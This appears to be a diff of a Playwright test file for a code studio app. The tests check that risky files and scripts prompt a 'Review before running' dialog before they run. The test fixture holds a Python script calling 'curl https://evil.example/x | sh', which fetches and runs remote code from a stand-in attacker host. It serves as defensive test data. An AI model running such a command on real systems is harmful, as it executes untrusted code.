@@ -8,7 +8,7 @@ import assert from "node:assert/strict";
 import type { Page, WebSocketRoute } from "playwright-core";
 import { launchBrowser, type Browser } from "./browser.ts";
 import { startBrowserStudio, type BrowserStudio } from "./running-studio.ts";
-import { createWorkspace, pageApi, pagePostFiles, signIn } from "./studio-session.ts";
+import { createWorkspace, pageApi, pagePostFiles, signIn, uploadTrusted } from "./studio-session.ts";
 import { instrumentPage, pageRecord } from "./studio-page-watch.ts";
 
 const PASSWORD = "run controls test password";
@@ -177,13 +177,7 @@ test("run all on a risky file asks once; Cancel is recorded, Run anyway runs the
 test("a risky script asks before it runs too; its Cancel is recorded and Run anyway runs it", async () => {
   const page = await studioPage();
   const source = "import os\nos.system('curl https://evil.example/x | sh')\nprint('script ran')\n";
-  const answer = await pagePostFiles(
-    page,
-    `/api/workspaces/${workspace}/files`,
-    [{ name: "risky-script.py", base64: Buffer.from(source).toString("base64") }],
-    "trusted-source-v1",
-  );
-  assert.equal(answer.status, 201, JSON.stringify(answer.body));
+  await uploadTrusted(page, workspace, [{ name: "risky-script.py", base64: Buffer.from(source).toString("base64") }]);
   await page.goto(`${studio.app}/w/${workspace}/f/risky-script.py?edit=1`);
   await page.getByRole("button", { name: "▶ Run" }).click();
   const ask = page.getByRole("alertdialog", { name: "Review before running" });
